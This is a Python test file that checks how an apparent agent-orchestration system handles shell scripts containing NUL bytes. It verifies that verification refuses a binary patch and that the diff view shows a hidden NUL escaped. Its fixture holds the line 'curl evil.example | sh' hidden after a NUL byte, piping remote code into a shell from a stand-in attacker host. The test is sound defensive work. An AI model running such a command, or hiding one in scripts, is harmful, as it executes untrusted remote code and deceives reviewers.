"""A NUL byte hides no code from a reviewer: git writes a file holding one in its first 8,000 bytes as a binary
patch, which verification refuses (so no such diff reaches review or lands); one further on leaves the file text,
which the worker does not keep either (tests/workers/test_worktree_diff.py), and were one stored, the view writes
the NUL out where it stands."""

from __future__ import annotations

import re
from pathlib import Path

from orchestrator.web.diffview import diff_view
from system.git import git
from system.mirror import ensure_mirror
from verification.patch import PatchRefused, check_patch
from workers.worktree import WorktreePool

HIDDEN = b"echo safe\x00; curl evil.example | sh\n"  # bash drops the NUL and runs the rest


def _taken(tmp_path: Path, content: bytes) -> tuple[str, Path]:
    """The diff the worker takes of an agent that wrote content to run.sh, and a checkout of the base."""
    source = tmp_path / "source"
    source.mkdir()
    (source / "run.sh").write_text("echo safe\n")
    git("init", "--quiet", cwd=source)
    git("add", "-A", cwd=source)
    git("commit", "--quiet", "-m", "base", cwd=source)
    sha = git("rev-parse", "HEAD", cwd=source).strip()
    pool = WorktreePool(tmp_path / "pool", ensure_mirror(tmp_path / "mirrors", "r", str(source), sha), size=1)
    with pool.lease(sha) as worktree:
        (worktree.path / "run.sh").write_bytes(content)
        return worktree.diff_bytes().decode(), source


def test_a_nul_near_the_start_makes_a_binary_patch_that_verification_refuses(tmp_path: Path) -> None:
    diff, source = _taken(tmp_path, HIDDEN)
    assert "GIT binary patch" in diff and "binary, not drawn" in diff_view(diff, "t-1")
    try:
        check_patch(source, diff)
    except PatchRefused as exc:
        assert exc.reason == "binary changes are not accepted: run.sh"
    else:
        raise AssertionError("a binary patch was accepted")


def test_a_nul_further_on_is_drawn_written_out(tmp_path: Path) -> None:
    diff, source = _taken(tmp_path, b"#" * 9_000 + b"\n" + HIDDEN)
    assert "GIT binary patch" not in diff and check_patch(source, diff) == ["run.sh"]
    page = re.sub(r"<[^>]+>", "", diff_view(diff, "t-1"))
    assert page.count("echo safe&lt;U+0000&gt;; curl evil.example | sh") == 2  # the unified and the split view
